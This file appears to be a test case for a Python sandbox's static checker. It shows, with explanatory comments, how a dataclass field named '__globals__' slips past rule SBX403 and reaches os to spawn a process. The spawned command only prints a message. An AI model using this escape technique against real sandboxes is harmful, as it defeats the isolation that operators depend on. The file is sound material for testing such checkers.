# family: field_names
# reaches: process
# layer: static
# static: missed
# SBX403 admits getattr(obj, f.name) on any object but a module when f loops over
# dataclasses.fields(...) (safeLoopName): field names are taken for public identifiers. Route:
# dataclasses.make_dataclass takes its field names as strings and accepts any identifier, a
# dunder among them, with no class body to read; getattr(render, "__globals__") on the
# program's own function hands over the module's globals, with os in them.
import os
from dataclasses import fields, make_dataclass

Row = make_dataclass("Row", ["name", "__globals__"])


def render():
    return "ok"


found = [getattr(render, f.name, None) for f in fields(Row)]
host = found[-1]["os"]
pid = host.posix_spawn("/usr/bin/python3", ["python3", "-c", "print('reached: process')"], {})
print(host.waitpid(pid, 0))
print(os.getcwd())
